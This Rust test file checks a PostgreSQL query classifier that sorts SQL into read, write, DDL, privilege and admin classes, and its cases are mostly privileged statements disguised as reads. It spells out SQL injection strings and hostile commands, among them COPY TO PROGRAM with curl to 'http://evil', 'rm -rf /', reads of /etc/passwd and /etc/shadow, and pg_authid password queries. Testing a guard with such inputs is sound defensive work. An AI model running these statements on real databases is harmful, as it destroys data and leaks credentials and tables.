//! The classification corpus: each case is a query string and the class
//! PostgreSQL's grammar must give it. Most are attempts to pass a
//! privileged statement off as a read.

use gavel_core::ActionClass::{self, *};
use gavel_postgres::Classifier;
use gavel_postgres::classify::{Names, Resolved};

/// Hand-written cases: (expected class, SQL).
const CASES: &[(ActionClass, &str)] = &[
    // Plain reads.
    (SqlRead, "SELECT 1"),
    (SqlRead, "select * from customers where id = 42"),
    (
        SqlRead,
        "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
    ),
    (
        SqlRead,
        "SELECT count(*), max(created_at) FROM orders GROUP BY customer_id HAVING count(*) > 3",
    ),
    (
        SqlRead,
        "SELECT c.name, o.total FROM customers c JOIN orders o ON o.customer_id = c.id ORDER BY o.total DESC LIMIT 10",
    ),
    (
        SqlRead,
        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
    ),
    (
        SqlRead,
        "SELECT lower(email), coalesce(phone, 'n/a') FROM users",
    ),
    (SqlRead, "SELECT * FROM generate_series(1, 10) g"),
    (SqlRead, "SELECT 'DROP TABLE users' AS harmless_text"),
    (SqlRead, "SELECT $$; DROP TABLE users; $$"),
    (SqlRead, "SELECT 1 /* ; DROP TABLE users */"),
    (SqlRead, "SELECT 1 -- ; DROP TABLE users"),
    (SqlRead, "SELECT E'\\'; DROP TABLE users; --'"),
    (SqlRead, "SELECT current_user, session_user, current_date"),
    (SqlRead, "SELECT pg_catalog.lower('X')"),
    (SqlRead, "SELECT EXISTS (SELECT 1 FROM users WHERE id = 1)"),
    (
        SqlRead,
        "SELECT * FROM users WHERE id IN (SELECT user_id FROM orders)",
    ),
    (SqlRead, "SELECT jsonb_build_object('a', 1) ->> 'a'"),
    (SqlRead, "VALUES (1), (2)"),
    (SqlRead, "TABLE users"),
    (SqlRead, "SHOW search_path"),
    (SqlRead, "BEGIN"),
    (SqlRead, "COMMIT"),
    (SqlRead, "ROLLBACK"),
    (SqlRead, "SAVEPOINT s1"),
    (SqlRead, "SET statement_timeout = '5s'"),
    (SqlRead, "SET application_name TO 'agent'"),
    (SqlRead, "EXPLAIN SELECT * FROM users"),
    (SqlRead, "LISTEN jobs"),
    (SqlRead, "DISCARD PLANS"),
    (SqlRead, "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE"),
    (
        SqlRead,
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
    ),
    (SqlRead, "SET LOCAL statement_timeout = 0"),
    (SqlRead, "SET TIME ZONE 'UTC'"),
    (SqlRead, "SELECT '2026-01-01'::date + 1"),
    (
        SqlRead,
        "SELECT $1::int, CAST('1' AS bigint), 'x'::pg_catalog.text",
    ),
    (SqlRead, "SELECT 1 OPERATOR(pg_catalog.+) 2"),
    (
        SqlRead,
        "SELECT * FROM users WHERE name LIKE 'a%' AND id BETWEEN 1 AND 9",
    ),
    (SqlRead, "SELECT data->>'k', data @> '{}'::jsonb FROM docs"),
    (SqlAdmin, "SELECT * FROM pg_stat_activity"),
    // Catalogs: an allow-list of metadata; credentials, other sessions and
    // server internals are admin, however they are named.
    (SqlRead, "SELECT relname FROM pg_class"),
    (SqlRead, "SELECT * FROM pg_catalog.pg_tables"),
    (SqlRead, "SELECT * FROM information_schema.columns"),
    (SqlAdmin, "SELECT umoptions FROM pg_user_mapping"),
    (SqlAdmin, "SELECT * FROM pg_catalog.pg_user_mappings"),
    (SqlAdmin, "SELECT subconninfo FROM pg_subscription"),
    (SqlAdmin, "SELECT * FROM pg_largeobject"),
    (SqlAdmin, "SELECT * FROM pg_statistic"),
    (SqlAdmin, "SELECT * FROM pg_catalog.pg_authid"),
    (SqlAdmin, "SELECT * FROM pg_settings"),
    (SqlAdmin, "SHOW ALL"),
    (SqlAdmin, "SHOW hba_file"),
    (SqlAdmin, "SELECT current_setting('data_directory')"),
    (
        SqlAdmin,
        "SELECT pg_catalog.current_setting('primary_conninfo')",
    ),
    (SqlUnknown, "SELECT current_setting(name) FROM t"),
    (SqlRead, "SELECT current_setting('TimeZone')"),
    (
        SqlAdmin,
        "SELECT most_common_vals FROM pg_stats WHERE tablename = 'pg_authid'",
    ),
    (SqlAdmin, "SELECT * FROM pg_stats_ext"),
    (SqlRead, "SHOW TimeZone"),
    (SqlAdmin, "SELECT * FROM information_schema.user_mappings"),
    (SqlAdmin, "SELECT * FROM pg_toast.pg_toast_1259"),
    (SqlAdmin, "SELECT * FROM pg_some_future_catalog"),
    (SqlAdmin, "SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_shadow)"),
    // Operators anywhere: op ANY/ALL (SELECT …), OPERATOR(schema.op),
    // ORDER BY … USING.
    (SqlUnknown, "SELECT 1 WHERE 1 === ANY (SELECT 1)"),
    (
        SqlUnknown,
        "SELECT x FROM t WHERE x OPERATOR(public.===) ALL (SELECT 1)",
    ),
    (
        SqlUnknown,
        "SELECT * FROM t ORDER BY a USING OPERATOR(public.<<<)",
    ),
    (
        SqlUnknown,
        "SELECT array_agg(a ORDER BY a USING OPERATOR(public.<<<)) FROM t",
    ),
    (SqlRead, "SELECT * FROM t ORDER BY a USING >"),
    (SqlRead, "SELECT 1 WHERE 1 = ANY (SELECT 1)"),
    (
        SqlRead,
        "SELECT a FROM t WHERE (a, b) = ANY (SELECT a, b FROM u)",
    ),
    // Types anywhere: XMLSERIALIZE, XMLTABLE and JSON_TABLE columns,
    // RETURNING, column definitions, PREPARE's argument types.
    (
        SqlUnknown,
        "SELECT XMLSERIALIZE(DOCUMENT x AS public.dom) FROM t",
    ),
    (
        SqlUnknown,
        "SELECT * FROM XMLTABLE('/r' PASSING x COLUMNS a public.dom PATH 'a')",
    ),
    (
        SqlUnknown,
        "SELECT * FROM JSON_TABLE(j, '$' COLUMNS (a public.dom PATH '$.a'))",
    ),
    (
        SqlUnknown,
        "SELECT JSON_VALUE(j, '$' RETURNING public.dom) FROM t",
    ),
    (
        SqlUnknown,
        "SELECT * FROM generate_series(1, 2) AS x(a public.dom)",
    ),
    (SqlUnknown, "PREPARE p(public.dom) AS SELECT $1"),
    (SqlUnknown, "SELECT 'a'::public.dom"),
    (SqlUnknown, "SELECT CAST(1 AS dom)"),
    (SqlUnknown, "SELECT a COLLATE public.c FROM t"),
    (SqlUnknown, "SELECT * FROM t TABLESAMPLE public.evil(1)"),
    (SqlRead, "SELECT * FROM t TABLESAMPLE system(1)"),
    (SqlRead, "SELECT a COLLATE \"C\" FROM t"),
    (SqlRead, "SELECT XMLSERIALIZE(DOCUMENT x AS text) FROM t"),
    (
        SqlRead,
        "SELECT oid::regoperator, 'x'::pg_catalog.regclass FROM pg_operator",
    ),
    // Column notation reaches functions where no call is written.
    (SqlWrite, "SELECT ('s').nextval"),
    (SqlWrite, "SELECT (ARRAY['s'::regclass])[1].nextval"),
    (SqlWrite, "SELECT ((SELECT 's'::regclass)).nextval"),
    (SqlAdmin, "SELECT (0.1).pg_sleep"),
    (SqlAdmin, "SELECT (1).pg_terminate_backend"),
    (SqlAdmin, "SELECT ('.').pg_ls_dir"),
    (SqlUnknown, "SELECT ('DELETE FROM t').ts_stat"),
    (SqlRead, "SELECT x.a, (x).b, s.t.c FROM t x"),
    (SqlRead, ""),
    (SqlRead, ";"),
    (SqlRead, "SELECT 1; SELECT 2"),
    (SqlRead, "DECLARE c CURSOR FOR SELECT * FROM users"),
    (SqlRead, "FETCH 10 FROM open_cursor"),
    // A cursor the session cannot vouch for fails closed.
    (SqlUnknown, "FETCH 10 FROM c"),
    (SqlUnknown, "MOVE 1 IN c"),
    (SqlWrite, "EXECUTE known_write"),
    (SqlRead, "PREPARE p AS SELECT 1; EXECUTE p"),
    (SqlWrite, "PREPARE p AS DELETE FROM t; EXECUTE p"),
    (SqlUnknown, "DEALLOCATE known_read; EXECUTE known_read"),
    (SqlUnknown, "DEALLOCATE ALL; EXECUTE known_read"),
    (SqlRead, "DECLARE d CURSOR FOR SELECT 1; FETCH d"),
    (SqlUnknown, "CLOSE open_cursor; FETCH open_cursor"),
    (SqlUnknown, "DISCARD ALL; FETCH open_cursor"),
    (SqlRead, "PREPARE q AS SELECT * FROM users WHERE id = $1"),
    (SqlRead, "EXECUTE known_read(1)"),
    // Writes, plain and hidden.
    (SqlWrite, "INSERT INTO users (email) VALUES ('a@x')"),
    (SqlWrite, "UPDATE users SET email = 'b@x' WHERE id = 1"),
    (SqlWrite, "DELETE FROM users WHERE id = 1"),
    (
        SqlWrite,
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    ),
    (SqlWrite, "TRUNCATE users"),
    (
        SqlWrite,
        "WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone",
    ),
    (
        SqlWrite,
        "WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM x",
    ),
    (
        SqlWrite,
        "WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT 1",
    ),
    (
        SqlWrite,
        "WITH a AS (SELECT 1), b AS (DELETE FROM t RETURNING 1) SELECT * FROM a",
    ),
    (
        SqlWrite,
        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) sub",
    ),
    (SqlWrite, "SELECT 1; DELETE FROM users"),
    (SqlWrite, "select 1;delete from users"),
    (
        SqlWrite,
        "SELECT 1 /* innocent */; UPDATE users SET admin = true",
    ),
    (SqlWrite, "SELECT * FROM users FOR UPDATE"),
    (SqlWrite, "SELECT * FROM users FOR SHARE SKIP LOCKED"),
    (SqlWrite, "SELECT nextval('users_id_seq')"),
    (SqlWrite, "SELECT setval('users_id_seq', 1)"),
    (SqlWrite, "SELECT pg_notify('ch', 'x')"),
    (SqlWrite, "NOTIFY jobs, 'go'"),
    (SqlWrite, "EXPLAIN ANALYZE DELETE FROM users"),
    (SqlWrite, "PREPARE p AS DELETE FROM users WHERE id = $1"),
    (SqlWrite, "EXECUTE known_write(1)"),
    (SqlWrite, "COPY users FROM STDIN"),
    (SqlWrite, "REFRESH MATERIALIZED VIEW stats"),
    (
        SqlWrite,
        "INSERT INTO t SELECT * FROM s ON CONFLICT DO NOTHING",
    ),
    // Exports.
    (SqlExport, "COPY users TO STDOUT"),
    (
        SqlExport,
        "COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)",
    ),
    (SqlExport, "copy users to stdout"),
    // DDL.
    (SqlDdl, "CREATE TABLE t (id int)"),
    (SqlDdl, "DROP TABLE users"),
    (SqlDdl, "DROP TABLE IF EXISTS users CASCADE"),
    (SqlDdl, "ALTER TABLE users ADD COLUMN x int"),
    (SqlDdl, "ALTER TABLE users DROP COLUMN email"),
    (SqlDdl, "CREATE INDEX CONCURRENTLY i ON users (email)"),
    (SqlDdl, "CREATE VIEW v AS SELECT * FROM users"),
    (SqlDdl, "CREATE SCHEMA s"),
    (SqlDdl, "ALTER TABLE users RENAME TO people"),
    (SqlDdl, "COMMENT ON TABLE users IS 'x'"),
    (SqlDdl, "SELECT * INTO backup FROM users"),
    (SqlDdl, "CREATE TABLE copy AS SELECT * FROM users"),
    (SqlDdl, "CREATE MATERIALIZED VIEW m AS SELECT 1"),
    (SqlDdl, "CREATE SEQUENCE s"),
    (SqlDdl, "SELECT 1; DROP TABLE users"),
    (SqlDdl, "SELECT 1 -- harmless\n; DROP TABLE users"),
    (SqlDdl, "SELECT 1;\n\n  drop table users;"),
    (SqlDdl, "DELETE FROM t; DROP TABLE t"),
    (SqlDdl, "CREATE TYPE mood AS ENUM ('ok')"),
    (SqlDdl, "ALTER TABLE users ENABLE ROW LEVEL SECURITY"),
    // DCL.
    (SqlDcl, "GRANT ALL ON users TO mallory"),
    (SqlDcl, "REVOKE SELECT ON users FROM analyst"),
    (SqlDcl, "GRANT admin TO mallory"),
    (SqlDcl, "CREATE ROLE mallory LOGIN SUPERUSER"),
    (SqlDcl, "ALTER ROLE mallory WITH PASSWORD 'x'"),
    (SqlDcl, "ALTER USER mallory SUPERUSER"),
    (SqlDcl, "DROP ROLE analyst"),
    // Settings that change how the server tokenizes the next statement.
    (SqlAdmin, "SET client_encoding = 'SJIS'"),
    (SqlAdmin, "SET NAMES 'LATIN1'"),
    (SqlAdmin, "SET standard_conforming_strings = off"),
    (SqlAdmin, "RESET standard_conforming_strings"),
    (
        SqlAdmin,
        "SELECT set_config('standard_conforming_strings', 'off', false)",
    ),
    (SqlDcl, "SET ROLE admin"),
    (SqlDcl, "SET LOCAL ROLE admin"),
    (SqlDcl, "RESET ROLE"),
    (SqlDcl, "SET SESSION AUTHORIZATION postgres"),
    (
        SqlDcl,
        "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO mallory",
    ),
    (SqlDcl, "ALTER TABLE users OWNER TO mallory"),
    (SqlDcl, "CREATE POLICY p ON users USING (true)"),
    (SqlDcl, "REASSIGN OWNED BY a TO b"),
    (SqlDcl, "SELECT 1; GRANT ALL ON users TO PUBLIC"),
    (SqlDcl, "ALTER ROLE analyst SET search_path = public"),
    // Admin.
    (SqlAdmin, "ALTER SYSTEM SET fsync = off"),
    (SqlAdmin, "VACUUM FULL users"),
    (SqlAdmin, "ANALYZE users"),
    (SqlAdmin, "LOCK TABLE users IN ACCESS EXCLUSIVE MODE"),
    (SqlAdmin, "CHECKPOINT"),
    (SqlAdmin, "LOAD 'evil'"),
    (SqlAdmin, "CREATE EXTENSION dblink"),
    (SqlAdmin, "CLUSTER users USING users_pkey"),
    (SqlAdmin, "REINDEX TABLE users"),
    (SqlAdmin, "DO $$ BEGIN DELETE FROM users; END $$"),
    (SqlAdmin, "do 'begin perform 1; end'"),
    (SqlAdmin, "CALL cleanup()"),
    (
        SqlAdmin,
        "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
    ),
    (
        SqlAdmin,
        "CREATE OR REPLACE FUNCTION lower(text) RETURNS text AS 'select 1' LANGUAGE sql SECURITY DEFINER",
    ),
    (
        SqlAdmin,
        "CREATE TRIGGER t AFTER INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()",
    ),
    (
        SqlAdmin,
        "CREATE RULE r AS ON SELECT TO v DO INSTEAD SELECT 1",
    ),
    (SqlAdmin, "CREATE DATABASE other"),
    (SqlAdmin, "DROP DATABASE prod"),
    (SqlAdmin, "SET search_path = evil, pg_catalog"),
    (SqlAdmin, "SELECT set_config('role', 'admin', false)"),
    (SqlAdmin, "SELECT set_config('search_path', 'evil', false)"),
    (SqlAdmin, "COPY users TO '/tmp/users.csv'"),
    (SqlAdmin, "COPY users TO PROGRAM 'curl -d @- http://evil'"),
    (SqlAdmin, "COPY (SELECT 1) TO PROGRAM 'rm -rf /'"),
    (SqlAdmin, "COPY users FROM PROGRAM 'id'"),
    (SqlAdmin, "COPY users FROM '/etc/passwd'"),
    (
        SqlAdmin,
        "SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')",
    ),
    (
        SqlAdmin,
        "SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)",
    ),
    (
        SqlAdmin,
        "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')",
    ),
    (SqlAdmin, "SELECT lo_export(1234, '/tmp/x')"),
    (SqlAdmin, "SELECT lo_import('/etc/shadow')"),
    (SqlAdmin, "SELECT pg_read_file('/etc/passwd')"),
    (SqlAdmin, "SELECT pg_ls_dir('.')"),
    (SqlAdmin, "SELECT pg_reload_conf()"),
    (SqlAdmin, "SELECT pg_advisory_lock(1)"),
    (SqlAdmin, "SELECT U&\"pg_terminate_\\0062ackend\"(1)"),
    (SqlAdmin, "SELECT \"pg_terminate_backend\"(1)"),
    (SqlAdmin, "SELECT PG_TERMINATE_BACKEND(1)"),
    (SqlAdmin, "SELECT pg_catalog.pg_terminate_backend(1)"),
    (SqlAdmin, "DELETE FROM t; ALTER SYSTEM SET x = 1"),
    (
        SqlAdmin,
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
    ),
    (
        SqlAdmin,
        "CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p",
    ),
    // Found by review: side effects that do not look like function calls.
    (SqlUnknown, "SELECT 1 ### 2"),
    (SqlUnknown, "SELECT 1 OPERATOR(public.###) 2"),
    (SqlUnknown, "SELECT 42::pair"),
    (SqlUnknown, "SELECT CAST(x AS public.t) FROM s"),
    (SqlUnknown, "SELECT 'x'::my_domain"),
    (SqlAdmin, "COMMIT PREPARED 'g'"),
    (SqlAdmin, "ROLLBACK PREPARED 'g'"),
    (SqlAdmin, "PREPARE TRANSACTION 'g'"),
    (SqlDcl, "DISCARD ALL"),
    (SqlDcl, "RESET ALL"),
    (SqlAdmin, "SET session_replication_role = replica"),
    (SqlAdmin, "SET log_statement = 'none'"),
    (SqlAdmin, "SET LOCAL search_path = evil"),
    (SqlAdmin, "RESET search_path"),
    (SqlAdmin, "COPY (DELETE FROM users RETURNING *) TO STDOUT"),
    (
        SqlAdmin,
        "UPDATE pg_settings SET setting = 'evil' WHERE name = 'search_path'",
    ),
    (SqlAdmin, "SELECT * FROM pg_hba_file_rules"),
    (SqlAdmin, "SELECT rolpassword FROM pg_authid"),
    // Unknown: fail closed.
    (SqlUnknown, "SELEC 1"),
    (SqlUnknown, "SELECT * FROM"),
    (SqlUnknown, "DROP TABLE users; SELEC"),
    (SqlUnknown, "SELECT 1; SELECT * FROM users WHERE"),
    (SqlUnknown, "SELECT my_cleanup()"),
    (SqlUnknown, "SELECT * FROM users WHERE audit.log_access(id)"),
    (SqlUnknown, "SELECT public.lower('x')"),
    (SqlUnknown, "SELECT evil.pg_backend_pid()"),
    (SqlUnknown, "SELECT txid_current()"),
    (SqlUnknown, "EXECUTE never_prepared"),
    (SqlUnknown, "SELECT 1; EXECUTE never_prepared"),
    (SqlUnknown, "SELECT 1\0; DROP TABLE users"),
    (SqlUnknown, "VACUUM users; SELECT my_func()"),
    (SqlUnknown, "\\! rm -rf /"),
];

/// Functions with side effects, hidden in every place a read can hold an
/// expression.
const HIDDEN_CALLS: &[(ActionClass, &str)] = &[
    (SqlAdmin, "pg_terminate_backend(42)"),
    (SqlAdmin, "pg_cancel_backend(42)"),
    (SqlAdmin, "pg_sleep(600)"),
    (SqlAdmin, "dblink_exec('dbname=prod', 'DROP TABLE users')"),
    (SqlAdmin, "lo_unlink(1)"),
    (SqlAdmin, "pg_read_binary_file('/etc/passwd')"),
    (SqlAdmin, "pg_switch_wal()"),
    (SqlAdmin, "set_config('role', 'postgres', false)"),
    (SqlWrite, "nextval('s')"),
    (SqlUnknown, "sneaky_delete()"),
];

const POSITIONS: &[&str] = &[
    "SELECT {f}",
    "SELECT id FROM users WHERE {f} IS NOT NULL",
    "SELECT id FROM users ORDER BY {f}",
    "SELECT (SELECT {f})",
    "SELECT CASE WHEN true THEN {f} END",
    "SELECT * FROM users u, LATERAL (SELECT {f}) x",
    "WITH c AS (SELECT {f}) SELECT * FROM c",
    "SELECT * FROM (VALUES ({f})) v(x)",
    "SELECT coalesce(NULL, {f})",
    "SELECT 1 WHERE EXISTS (SELECT {f})",
    "SELECT id FROM users GROUP BY id HAVING count({f}) > 0",
    "SELECT array[{f}]",
    "SELECT 1; SELECT {f}",
];

const PRIVILEGED: &[(ActionClass, &str)] = &[
    (SqlWrite, "DELETE FROM users"),
    (SqlDdl, "DROP TABLE users"),
    (SqlDcl, "GRANT ALL ON users TO mallory"),
    (SqlAdmin, "ALTER SYSTEM SET fsync = off"),
    (SqlExport, "COPY users TO STDOUT"),
];

const CAMOUFLAGE: &[&str] = &[
    "SELECT 1; {s}",
    "{s}; SELECT 1",
    "BEGIN; {s}; COMMIT",
    "SELECT 'x' /* ; */; {s}",
    "SET application_name = 'report'; {s}",
    "SELECT 1;\n-- just a comment\n{s};",
];

/// A session holding two prepared statements and one cursor.
struct Session;

impl Names for Session {
    fn statement(&self, name: &str) -> Option<Resolved> {
        let (class, text) = match name {
            "known_read" => (SqlRead, "SELECT * FROM t"),
            "known_write" => (SqlWrite, "DELETE FROM t"),
            _ => return None,
        };
        Some(Resolved {
            class,
            tables: vec!["t".into()],
            text: text.into(),
            changes_session: false,
        })
    }

    fn portal(&self, name: &str) -> Option<Resolved> {
        (name == "open_cursor").then(|| Resolved {
            class: SqlRead,
            tables: vec!["t".into()],
            text: "SELECT * FROM t".into(),
            changes_session: false,
        })
    }
}

#[test]
fn the_corpus_classifies_as_postgresql_parses() {
    let c = Classifier::default();
    let mut cases: Vec<(ActionClass, String)> =
        CASES.iter().map(|(k, s)| (*k, (*s).to_owned())).collect();
    for (class, call) in HIDDEN_CALLS {
        for position in POSITIONS {
            cases.push((*class, position.replace("{f}", call)));
        }
    }
    for (class, stmt) in PRIVILEGED {
        for camo in CAMOUFLAGE {
            cases.push((*class, camo.replace("{s}", stmt)));
        }
    }
    assert!(cases.len() >= 200, "only {} cases", cases.len());
    let mut failures = Vec::new();
    for (expected, sql) in &cases {
        let got = c.classify(sql, &Session);
        if got.class != *expected {
            failures.push(format!(
                "{sql:?}: expected {expected}, got {} ({})",
                got.class, got.reason
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases wrong:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    eprintln!("{} classification cases pass", cases.len());
}

#[test]
fn tables_and_reasons_are_reported() {
    let c = Classifier::default();
    let r = c.classify(
        "SELECT * FROM public.users u JOIN orders o ON true; DELETE FROM sessions",
        &Session,
    );
    assert_eq!(r.class, SqlWrite);
    assert_eq!(
        r.tables,
        vec![
            "orders".to_string(),
            "public.users".into(),
            "sessions".into()
        ]
    );
    assert_eq!(r.statements.len(), 2);
    assert_eq!(r.statements[0].class, SqlRead);
    assert_eq!(r.statements[1].kind, "DeleteStmt");
    let r = c.classify("SELECT pg_terminate_backend(1)", &Session);
    assert!(
        r.reason.contains("pg_terminate_backend() has side effects"),
        "{}",
        r.reason
    );
}

#[test]
fn every_statement_kind_names_its_tables_for_policy() {
    let c = Classifier::default();
    for (sql, table) in [
        ("DROP TABLE audit.events", "audit.events"),
        (
            "DROP TABLE IF EXISTS x, audit.events CASCADE",
            "audit.events",
        ),
        ("DROP VIEW audit.events", "audit.events"),
        ("DROP MATERIALIZED VIEW audit.events", "audit.events"),
        ("DROP SCHEMA audit CASCADE", "audit.*"),
        ("ALTER TABLE audit.events DROP COLUMN x", "audit.events"),
        ("TRUNCATE audit.events", "audit.events"),
        ("GRANT SELECT ON audit.events TO bob", "audit.events"),
        ("REVOKE ALL ON audit.events FROM bob", "audit.events"),
        ("COMMENT ON TABLE audit.events IS 'x'", "audit.events"),
        ("COMMENT ON COLUMN audit.events.x IS 'x'", "audit.events"),
        ("CREATE INDEX i ON audit.events (x)", "audit.events"),
        ("REINDEX TABLE audit.events", "audit.events"),
        ("LOCK TABLE audit.events", "audit.events"),
        ("COPY audit.events TO STDOUT", "audit.events"),
        ("COPY audit.events FROM STDIN", "audit.events"),
        ("VACUUM audit.events", "audit.events"),
        ("ANALYZE audit.events", "audit.events"),
        ("CLUSTER audit.events USING i", "audit.events"),
        ("ALTER TABLE audit.events RENAME TO e2", "audit.events"),
        ("ALTER TABLE audit.events SET SCHEMA public", "audit.events"),
        ("ALTER TABLE audit.events OWNER TO bob", "audit.events"),
        (
            "CREATE TRIGGER tr BEFORE DELETE ON audit.events FOR EACH ROW EXECUTE FUNCTION f()",
            "audit.events",
        ),
        (
            "CREATE POLICY p ON audit.events USING (true)",
            "audit.events",
        ),
        ("REFRESH MATERIALIZED VIEW audit.events", "audit.events"),
        ("DELETE FROM audit.events", "audit.events"),
        ("EXECUTE known_write", "t"),
    ] {
        let r = c.classify(sql, &Session);
        assert!(
            r.tables.iter().any(|t| t == table),
            "{sql:?} names {table}, got {:?}",
            r.tables
        );
    }
}

#[test]
fn column_notation_follows_the_servers_catalog() {
    let c = Classifier::default();
    let user = "SELECT x.audit_everything FROM t x";
    assert_eq!(
        c.classify(user, &Session).class,
        SqlRead,
        "a column until the server says otherwise"
    );
    let mut catalog = gavel_postgres::classify::Catalog::default();
    catalog.user_functions.insert("audit_everything".into());
    assert!(c.set_catalog(catalog.clone()));
    assert!(!c.set_catalog(catalog), "unchanged");
    for sql in [
        user,
        "SELECT (x).audit_everything FROM t x",
        "SELECT public.t.audit_everything FROM public.t",
        "SELECT (1).audit_everything",
    ] {
        assert_eq!(c.classify(sql, &Session).class, SqlUnknown, "{sql}");
    }
}

#[test]
fn configuration_extends_both_lists() {
    let c = Classifier::new(
        &[("lower".into(), SqlAdmin)],
        &["reporting.safe_fn".into(), "my_pure".into()],
    );
    assert_eq!(
        c.classify("SELECT lower('x')", &Session).class,
        SqlAdmin,
        "a configured side effect wins"
    );
    assert_eq!(
        c.classify("SELECT reporting.safe_fn()", &Session).class,
        SqlRead
    );
    assert_eq!(c.classify("SELECT my_pure()", &Session).class, SqlRead);
    assert_eq!(
        c.classify("SELECT other.my_pure()", &Session).class,
        SqlUnknown,
        "a name elsewhere is not trusted"
    );
}

#[test]
fn code_resolved_where_none_is_written_follows_the_catalog() {
    let c = Classifier::default();
    let mut catalog = gavel_postgres::classify::Catalog::default();
    catalog.user_operators.insert(">=".into());
    assert!(c.set_catalog(catalog));
    for sql in [
        "SELECT 1 BETWEEN 0 AND 2",
        "SELECT 1 BETWEEN SYMMETRIC 2 AND 0",
    ] {
        assert_eq!(c.classify(sql, &Session).class, SqlUnknown, "{sql}");
    }
    let mut catalog = gavel_postgres::classify::Catalog::default();
    catalog.user_operators.insert("<".into());
    assert!(c.set_catalog(catalog));
    assert_eq!(
        c.classify("SELECT 1 NOT BETWEEN 0 AND 2", &Session).class,
        SqlUnknown
    );
    assert_eq!(
        c.classify("SELECT 1 BETWEEN 0 AND 2", &Session).class,
        SqlRead,
        "BETWEEN uses >= and <="
    );
    // A cast alone changes the catalog (and so every cached judgement).
    let mut catalog = gavel_postgres::classify::Catalog::default();
    catalog.user_casts.insert("integer AS text".into());
    assert!(c.set_catalog(catalog));
    assert_eq!(c.classify("SELECT 1", &Session).class, SqlUnknown);
    assert_eq!(
        c.classify("CREATE TABLE t (id int)", &Session).class,
        SqlDdl,
        "what evaluates nothing stays what it is"
    );
}

#[test]
fn an_unreadable_catalog_fails_closed() {
    let c = Classifier::default();
    assert!(c.set_catalog(gavel_postgres::classify::Catalog::unavailable()));
    let r = c.classify("SELECT id FROM users", &Session);
    assert_eq!(r.class, SqlUnknown);
    assert!(
        r.reason.contains("cannot read the server's catalog"),
        "{}",
        r.reason
    );
    assert_eq!(c.classify("DROP TABLE users", &Session).class, SqlDdl);
}

#[test]
fn what_follows_code_created_in_the_same_string_is_not_trusted() {
    let c = Classifier::default();
    for sql in [
        "CREATE CAST (int AS text) WITH FUNCTION f(int); SELECT 1::text",
        "CREATE FUNCTION lower(int) RETURNS text LANGUAGE sql AS 'SELECT 1'; SELECT lower(1)",
        "CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <; SELECT 1 ORDER BY 1",
        "ALTER FUNCTION f(int) RENAME TO lower; SELECT lower(1)",
        "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f(); INSERT INTO t VALUES (1)",
    ] {
        let r = c.classify(sql, &Session);
        assert_eq!(r.class, SqlUnknown, "{sql}: {}", r.reason);
        assert!(r.creates_code(), "{sql}");
    }
    // Tables and indexes create no code: a migration's DDL then DML stays
    // what it is.
    let r = c.classify(
        "CREATE SCHEMA s; CREATE TABLE s.t (id int); CREATE INDEX ON s.t (id); CREATE VIEW s.v AS SELECT id FROM s.t; INSERT INTO s.t VALUES (1)",
        &Session,
    );
    assert_eq!(r.class, SqlDdl, "{}", r.reason);
    assert!(!r.creates_code());
    assert_eq!(
        c.classify("CREATE CAST (int AS text) WITH FUNCTION f(int)", &Session)
            .class,
        SqlAdmin,
        "a cast changes how every session evaluates"
    );
}
